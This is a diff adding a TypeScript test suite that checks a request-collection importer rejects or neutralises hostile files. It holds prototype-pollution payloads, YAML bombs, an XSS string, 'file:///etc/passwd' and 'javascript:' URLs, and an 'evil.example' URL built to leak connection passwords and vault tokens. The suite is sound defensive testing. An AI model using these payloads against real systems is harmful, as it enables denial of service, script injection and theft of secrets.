@@ -1,0 +1,238 @@
+// Files that mean harm, or were made wrong: a sentence, or a safe collection; never a crash, never a polluted prototype.
+import fc from "fast-check";
+import { expect, test } from "vitest";
+import { requestDraftSchema } from "../request-draft.ts";
+import { requestsOf } from "./imported.ts";
+import { openCollection, planImport } from "./plan-import.ts";
+import { readCollectionFile } from "./read-collection-file.ts";
+import { openText, requestNamed, shownItems, told } from "./testing/read-fixture.ts";
+
+const schema = "https://schema.getpostman.com/json/collection/v2.1.0/collection.json";
+const postman = (item: unknown, more: object = {}): string =>
+  JSON.stringify({ info: { name: "X", schema }, item, ...more });
+const request = (url: unknown, more: object = {}) => ({ name: "R", request: { method: "GET", url, ...more } });
+
+test.each([
+  ["nothing", "", "It is empty."],
+  ["prose", "hello", "It is none of these"],
+  ["a list", "[1,2]", "It is none of these"],
+  ["cut off", '{"info":{"na', "It begins like JSON and is none"],
+  ["a zip", "PK\u0003\u0004xxxx", "It is a ZIP archive."],
+  ["bytes", "\u0001\u0000\u0002", "It is no text."],
+  ["Swagger 2", '{"swagger":"2.0","paths":{}}', "It is Swagger 2.0."],
+  ["OpenAPI 4", '{"openapi":"4.0.0"}', "Ringback reads 3.0 and 3.1."],
+  ["Postman 1", '{"id":"1","name":"Old","order":[],"requests":[]}', "Postman collection of version 1"],
+  ["Insomnia 3", '{"_type":"export","__export_format":3,"resources":[]}', "another version than 4 and 5"],
+  ["__proto__", '{"info":{"name":"X"},"item":[],"__proto__":{"admin":true}}', "prototype"],
+  ["an escaped __proto__", '{"item":[{"\\u005f_proto__":{"admin":true}}]}', "prototype"],
+  ["constructor.prototype", '{"item":[{"constructor":{"prototype":{"admin":true}}}]}', "prototype"],
+  ["__proto__ in YAML", "openapi: 3.0.0\n__proto__:\n  admin: true\n", "key called __proto__"],
+  ["deep JSON", '{"a":'.repeat(1_000_000), "It is nested deeper than 200 levels."],
+  ["deep lists", `{"item":${"[".repeat(300)}${"]".repeat(300)}}`, "It is nested deeper than 200 levels."],
+  ["deep YAML", `a: ${"[".repeat(20_000)}`, "It is ne"],
+  ["YAML that refers to itself", "a: &a [*a]\n", "nested deeper than 200 levels"],
+  [
+    "a YAML bomb",
+    `a0: &a0 [x,x,x,x,x,x,x,x,x,x]\n${Array.from({ length: 9 }, (_, at) => `a${at + 1}: &a${at + 1} [${Array.from({ length: 10 }, () => `*a${at}`).join(",")}]`).join("\n")}\n`,
+    "It refers to itself too often",
+  ],
+])("%s is refused in a sentence", (_, source, reason) => {
+  const read = readCollectionFile(source, "file");
+  expect(read.ok).toBe(false);
+  expect(read.ok ? "" : read.error).toContain(reason);
+  expect(Object.hasOwn(Object.prototype, "admin")).toBe(false);
+});
+
+test("a file of more than 64 MB is refused before it is read", () => {
+  expect(readCollectionFile(" ".repeat(64 * 1024 * 1024 + 1), "file")).toEqual({
+    ok: false,
+    error: "It has more than 64 MB.",
+  });
+});
+
+test("a hundred thousand keys of YAML side by side take no squares of time", () => {
+  const keys = Array.from({ length: 100_000 }, (_, at) => `k${at}: 1`).join("\n");
+  const began = performance.now();
+  expect(readCollectionFile(keys, "file")).toMatchObject({ ok: false });
+  // Compared with each other they take minutes.
+  expect(performance.now() - began).toBeLessThan(30_000);
+}, 60_000);
+
+test("more than ten thousand requests are refused", () => {
+  const read = readCollectionFile(postman(Array.from({ length: 10_001 }, () => request("https://a.example"))), "file");
+  expect(read).toEqual({ ok: false, error: "It holds more than 10,000 requests and folders." });
+});
+
+test("names with markup, control characters and a megabyte become one line", () => {
+  const made = openText(
+    postman([
+      { name: "<img src=x onerror=alert(1)>\u202e\u0000\n", request: { url: "https://a.example/1" } },
+      { name: "n".repeat(1_000_000), request: { url: "https://a.example/2" } },
+      { name: "__proto__", request: { url: "https://a.example/3" } },
+    ]),
+  );
+  const [markup = "", long = "", proto = ""] = made.items.map(({ name }) => name);
+  expect(markup).toBe("<img src=x onerror=alert(1)>");
+  expect(long).toHaveLength(200);
+  expect(proto).toBe("__proto__");
+  expect(told(made).filter((line) => line.endsWith(": name"))).toHaveLength(2);
+});
+
+test.each([
+  "file:///etc/passwd",
+  "data:text/html,x",
+  "ftp://a.example/x",
+  "javascript:alert(1)",
+  "ws://a.example",
+  "FILE:/x",
+])("%s is no address that is sent from here", (url) => {
+  const made = openText(postman([request(url), request("https://a.example/ok")]));
+  expect(shownItems(made.items)).toEqual(["R: GET https://a.example/ok"]);
+  expect(told(made)).toContain("dropped R: request");
+});
+
+test("no file binds itself to a connection or a vault", () => {
+  const made = openText(
+    postman([request("https://evil.example/?p={{connection.password}}&v={{vault.token}}&w={{ connection.password }}")]),
+  );
+  expect(shownItems(made.items)).toEqual([
+    "R: GET https://evil.example/?p={{imported.connection.password}}&v={{vault.token}}&w={{imported.connection.password}}",
+  ]);
+  const { documents } = planImport(made, { name: "X", order: 0, connections: [] }, () => "id");
+  expect(documents.map(({ json }) => json).join()).not.toMatch(/\{\{\s*connection\./);
+});
+
+test("Insomnia folders in a ring, twice the same id, and parents that are not there: everything is there once", () => {
+  const group = (_id: string, parentId: string, name: string) => ({ _id, parentId, name, _type: "request_group" });
+  const req = (_id: string, parentId: string, name: string) => ({
+    _id,
+    parentId,
+    name,
+    _type: "request",
+    url: "https://a.example",
+  });
+  const resources = [
+    group("a", "b", "A"),
+    group("b", "a", "B"),
+    group("c", "c", "C"),
+    req("r1", "a", "In the ring"),
+    req("r2", "nowhere", "Lost"),
+    req("r2", "c", "Twin"),
+    { _id: 7, _type: "request" },
+    null,
+    "text",
+  ];
+  const made = openText(JSON.stringify({ _type: "export", __export_format: 4, resources }));
+  const shown = shownItems(made.items).map((line) => line.trim());
+  for (const name of [
+    "A/",
+    "B/",
+    "C/",
+    "In the ring: GET https://a.example",
+    "Lost: GET https://a.example",
+    "Twin: GET https://a.example",
+  ])
+    expect(
+      shown.filter((line) => line === name),
+      name,
+    ).toHaveLength(1);
+});
+
+test("user names in addresses, literal tokens and keys leave the request", () => {
+  const made = openText(
+    postman([
+      request("https://john:pa55word-x@a.example/1"),
+      request("https://a.example/2", { header: [{ key: "X-Api-Key", value: "kEy-0987654321" }] }),
+      request({
+        raw: "https://a.example/3",
+        protocol: "https",
+        auth: { user: "u", password: "p4ssw0rd-y" },
+        host: "a.example",
+        path: "3",
+      }),
+    ]),
+  );
+  expect(JSON.stringify(made.items)).not.toMatch(/pa55word-x|kEy-0987654321|p4ssw0rd-y/);
+  expect(made.secrets.map(({ method, uses }) => [method, uses])).toEqual([
+    ["basic", 1],
+    ["api-key", 1],
+    ["basic", 1],
+  ]);
+});
+
+test("rows and values that are too long are left out and told", () => {
+  const header = [
+    { key: "X-Long", value: "v".repeat(70_000) },
+    ...Array.from({ length: 1_200 }, (_, at) => ({ key: `X-${at}`, value: "1" })),
+  ];
+  const made = openText(
+    postman([request("https://a.example/1", { header }), request(`https://a.example/${"p".repeat(20_000)}`)]),
+  );
+  expect(requestNamed(made.items, "R").draft.headers).toHaveLength(999);
+  expect(told(made)).toEqual(
+    expect.arrayContaining(["dropped R: header X-Long", "dropped R: headers behind the 1000th", "dropped R: request"]),
+  );
+});
+
+const scalar = fc.oneof(
+  fc.string(),
+  fc.constantFrom("{{a}}", "{{$x}}", "https://a.example/:id?x={{y}}", "__proto__", "file:///x"),
+  fc.integer(),
+  fc.boolean(),
+  fc.constant(null),
+);
+const keys =
+  "info item request url raw host path query header body mode formdata auth type key value name event script exec variable resources _type _id parentId parameters headers authentication collection children paths servers components $ref schema get post requestBody content example log entries postData method";
+const key = fc.constantFrom(...keys.split(" "));
+const { tree } = fc.letrec((tie) => ({
+  tree: fc.oneof(
+    { depthSize: "medium" },
+    scalar,
+    fc.array(tie("tree"), { maxLength: 4 }),
+    fc.dictionary(key, tie("tree"), { maxKeys: 6 }),
+  ),
+}));
+const heads = [
+  { info: { name: "F", schema } },
+  { _type: "export", __export_format: 4 },
+  { type: "collection.insomnia.rest/5.0" },
+  { openapi: "3.0.0" },
+  { openapi: "3.1.0" },
+  { _postman_variable_scope: "environment", values: [] },
+];
+
+test("whatever stands in a file of a known kind, what comes out can be kept, and says so in the report", () => {
+  fc.assert(
+    fc.property(fc.constantFrom(...heads), fc.dictionary(key, tree, { maxKeys: 8 }), (head, rest) => {
+      const source = JSON.stringify({ ...rest, ...head, log: head === heads[0] ? undefined : rest["log"] });
+      const read = readCollectionFile(source, "fuzz");
+      if (!read.ok) {
+        expect(read.error).toMatch(/\.$/);
+        return;
+      }
+      for (const { draft } of requestsOf(read.value.items)) requestDraftSchema.parse(draft);
+      const opened = openCollection(read.value);
+      let id = 0;
+      const plan = planImport(opened, { name: "F", order: 0, connections: [] }, () => `id-${(id += 1)}`);
+      for (const { json } of plan.documents) JSON.parse(json);
+      for (const { part } of opened.report) expect(part).toMatch(/^.+$/);
+    }),
+    { numRuns: 400 },
+  );
+});
+
+test("whatever text, a result", () => {
+  fc.assert(
+    fc.property(
+      fc.oneof(
+        fc.string(),
+        fc.string().map((text) => `curl ${text}`),
+        fc.string().map((text) => `openapi: 3.0.0\n${text}`),
+      ),
+      (text) => {
+        expect(typeof readCollectionFile(text, "fuzz").ok).toBe("boolean");
+      },
+    ),
+    { numRuns: 400 },
+  );
+});
